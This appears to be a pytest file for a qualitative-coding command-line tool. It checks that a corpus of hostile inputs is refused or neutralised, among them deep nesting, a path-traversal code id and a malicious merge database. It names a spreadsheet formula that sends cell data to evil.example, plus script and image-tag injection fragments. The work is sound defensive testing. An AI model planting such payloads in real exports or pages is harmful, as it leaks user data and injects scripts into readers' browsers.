"""The committed attack corpus of issue 16 (``tests/data/bad/issue16/``, written by its
``make_corpus.py``): each file fed to the command line, each outcome exact."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from qualcode.cli import cli
from tests.conftest import DATA, dump_db

CORPUS = DATA / "bad" / "issue16"

REFUSED: dict[str, tuple[list[str], str]] = {
    # file -> (command, the rest of the one error line after "error: FILE")
    "huge_hours.srt": (
        ["import"],
        ":2: a cue time is out of range (more hours than any recording has) "
        "(check its time lines: hours, minutes, seconds)",
    ),
    "huge_hours.vtt": (
        ["import"],
        ":3: a cue time is out of range (more hours than any recording has) "
        "(check its time lines: hours, minutes, seconds)",
    ),
    "deep_parents.yaml": (
        ["codebook", "sync"],
        ":304:13: code 'c100' is 101 levels deep (at most 100) (use a flatter codebook)",
    ),
    "id_newline.yaml": (
        ["codebook", "sync"],
        ":3:9: bad code id 'cost\\n' (use letters, digits, '_', '-' and '.', no spaces)",
    ),
    "nested_codes.qdc": (
        ["import"],
        ": codes are nested more than 100 levels deep; refused "
        "(a codebook that deep cannot be shown or written back)",
    ),
}


def test_every_corpus_file_is_in_a_table() -> None:
    tables = set(REFUSED) | set(ACCEPTED) | set(FOREIGN) | {"hostile_merge.db", "hostile_view.db"}
    assert sorted(p.name for p in CORPUS.iterdir() if p.suffix != ".py") == sorted(tables)


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_refused_in_one_line(demo_dir: Path, name: str) -> None:
    command, rest = REFUSED[name]
    path = CORPUS / name
    before = dump_db(demo_dir / "qualcode.db")
    r = CliRunner().invoke(
        cli, ["--project", str(demo_dir), *command, str(path)], prog_name="qualcode"
    )
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert r.exit_code == 1
    assert r.stderr == f"error: {path}{rest}\n"
    assert r.stdout == ""
    assert dump_db(demo_dir / "qualcode.db") == before


ACCEPTED = {
    "utf16le_no_bom.txt": ["import"],
    "markup_transcript.txt": ["import"],
    "formula_codebook.yaml": ["codebook", "sync"],
}


def test_accepted_and_safe_everywhere(demo_dir: Path, tmp_path: Path) -> None:
    """The valid attacks go in, and come out neutralised (CSV) and escaped (HTML)."""
    project = ["--project", str(demo_dir)]
    shutil.copyfile(CORPUS / "formula_codebook.yaml", tmp_path / "codebook.yaml")
    for name, command in ACCEPTED.items():
        source = tmp_path / name if name.endswith(".yaml") else CORPUS / name
        if name.endswith(".yaml"):
            # keep the demo's codes (their codings) and add the two hostile ones
            text = (CORPUS / "formula_codebook.yaml").read_text(encoding="utf-8")
            demo = (demo_dir / "kepmenpan-63.yaml").read_text(encoding="utf-8")
            extra = text.split("codes:\n", 1)[1].replace("id: cost", "id: evil_cost")
            extra = extra.replace("id: time", "id: evil_time")
            source.write_text(demo.rstrip("\n") + "\n" + extra, encoding="utf-8")
        r = CliRunner().invoke(cli, [*project, *command, str(source)], prog_name="qualcode")
        assert r.exit_code == 0, (name, r.output)
    r = CliRunner().invoke(
        cli,
        [*project, "code", "markup_transcript", "evil_cost", "--sentence", "1"],
        prog_name="qualcode",
    )
    assert r.exit_code == 0, r.output
    out = tmp_path / "segments.csv"
    r = CliRunner().invoke(
        cli, [*project, "export", "segments", "--format", "csv", "-o", str(out)],
        prog_name="qualcode",
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"click")' in cells
    assert not any(c.startswith(("=", "@")) for c in cells)
    page = tmp_path / "report.html"
    r = CliRunner().invoke(cli, [*project, "report", "-o", str(page)], prog_name="qualcode")
    assert r.exit_code == 0, r.output
    text = page.read_text(encoding="utf-8")
    assert "<script>alert" not in text and "<img src=x" not in text


FOREIGN = {"otherapp.db": "delete", "otherapp_wal.db": "wal"}


@pytest.mark.parametrize("name", sorted(FOREIGN))
def test_another_applications_file_keeps_every_byte(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    shutil.copyfile(CORPUS / name, path)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    r = CliRunner().invoke(cli, ["--project", str(path), "documents"], prog_name="qualcode")
    assert r.exit_code == 1
    assert r.stderr == f"error: {path} is not a qualcode project (it holds other tables)\n"
    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_a_hostile_merge_source(demo_dir: Path, tmp_path: Path) -> None:
    other = tmp_path / "theirs.db"
    shutil.copyfile(CORPUS / "hostile_merge.db", other)
    r = CliRunner().invoke(
        cli, ["--project", str(demo_dir), "merge", str(other), "--no-backup"], prog_name="qualcode"
    )
    assert r.exit_code == 1, r.output
    refused = [
        line.strip() for line in r.stdout.splitlines() if line.strip().startswith("refused:")
    ]
    assert refused[0] == "refused: 6 (not merged; the rest was)"
    assert any(
        line.startswith("refused: deletion by 'ani' of 'budi''s coding in 'wawancara'")
        for line in refused
    )
    assert "refused: code '../../x y': bad code id '../../x y'; refused" in refused
    for fragment in ("[-50:10]", "[5:99999999]", "[40:30]", "'bu\\ndi'"):
        assert any(fragment in line for line in refused), fragment
    assert r.stderr.endswith(
        "error: 6 incoming row(s) refused as invalid (listed above); the rest was merged\n"
    )


def test_a_merge_source_with_a_hostile_view(demo_dir: Path, tmp_path: Path) -> None:
    other = tmp_path / "theirs.db"
    shutil.copyfile(CORPUS / "hostile_view.db", other)
    before = dump_db(demo_dir / "qualcode.db")
    r = CliRunner().invoke(
        cli, ["--project", str(demo_dir), "merge", str(other), "--no-backup"], prog_name="qualcode"
    )
    assert r.exit_code == 1
    assert r.stderr == (
        f"error: {other} cannot be read as a project (unsafe use of regexp()) (merge a project "
        "qualcode wrote, or restore the other project from a backup)\n"
    )
    assert dump_db(demo_dir / "qualcode.db") == before
